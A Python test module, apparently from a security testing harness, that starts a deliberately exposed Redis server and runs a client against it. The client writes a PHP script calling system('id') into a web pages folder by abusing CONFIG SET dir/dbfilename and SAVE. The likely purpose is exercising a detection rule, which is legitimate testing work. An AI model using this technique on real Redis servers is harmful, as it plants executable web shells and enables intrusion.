"""Redis, whose settings may be changed by whoever comes: a snapshot is written as a script where pages may lie. On the way the
client takes a job from a list that the server named, and waits for it there: of another name nothing ever comes."""
from bait import installed
from client import Client, Unexpected, word

KIND = "plain"
RULE = "web_script_written"
NEEDS = ["/usr/bin/redis-server"]
ALWAYS = True

# The time is the server's, and so is the name.
MAKE_JOB = ("local now = redis.call('TIME') local name = 'job:' .. now[1] .. '-' .. now[2] .. '-' .. redis.call('INCR', 'jobs') "
            "redis.call('RPUSH', name, ARGV[1]) return name")


def services(bait):
    folder = bait.folder_of("redis", "redis")
    bait.folder_of("redis", "redis/pages")
    bait.write("redis.conf", f"bind {bait.host}\nport {bait.port()}\nprotected-mode no\ndaemonize no\nsave \"\"\ndir {folder}\n"
               f"enable-protected-configs {'yes' if bait.vulnerable else 'no'}\n")
    return [bait.entrance([installed(NEEDS[0]), bait.file("redis.conf")], user="redis")]


class Redis(Client):
    def reply(self):
        line = self.until(b"\r\n")[:-2]
        kind, rest = line[:1], line[1:]
        if kind == b"-":
            raise Unexpected(rest.decode())
        if kind == b"$":
            return self.exactly(int(rest) + 2)[:-2] if int(rest) >= 0 else None
        return [self.reply() for _ in range(int(rest))] if kind == b"*" else rest

    def send(self, *words):
        data = [each if isinstance(each, bytes) else str(each).encode() for each in words]
        self.say(b"*%d\r\n" % len(data) + b"".join(b"$%d\r\n%s\r\n" % (len(each), each) for each in data))

    def call(self, *words):
        self.send(*words)
        return self.reply()


def visit(address, random):
    redis = Redis(address)
    number = redis.call("CLIENT", "ID")
    redis.call("CLIENT", "TRACKING", "ON", "REDIRECT", number)
    name = redis.call("EVAL", MAKE_JOB, 0, word(random))
    redis.call("CLIENT", "SETNAME", word(random))
    redis.call("BLPOP", name, 0)
    redis.call("SET", "page", f"<?php /* {word(random)} */ system('id'); ?>")
    redis.send("CONFIG", "SET", "dir", "pages", "dbfilename", word(random) + ".php")
    redis.until(b"\n")
    redis.send("SAVE")
    redis.until(b"\n")
    redis.close()
